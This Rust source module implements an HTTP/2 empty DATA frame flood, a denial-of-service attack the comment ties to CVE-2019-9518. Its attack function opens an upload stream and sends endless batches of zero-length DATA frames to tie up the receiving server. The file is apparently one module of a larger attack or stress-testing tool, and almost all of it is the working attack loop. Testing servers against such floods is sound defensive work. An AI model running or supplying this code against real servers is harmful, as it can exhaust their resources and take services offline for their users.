//! Empty DATA flood: frames that cost the sender no window, and the receiver work (CVE-2019-9518).

use super::frames::{self, DATA};
use super::ground::Ground;
use super::http2::{BATCH, on_connection};

pub(super) async fn attack(ground: &Ground<'_>) {
    on_connection(ground, &[], async |connection| {
        let stream = connection.put_upload();
        loop {
            let count = connection.leave(BATCH).await?;
            for _ in 0..count {
                frames::put(&mut connection.output, DATA, 0, stream, &[]);
            }
            connection.send(count).await?;
        }
    })
    .await;
}
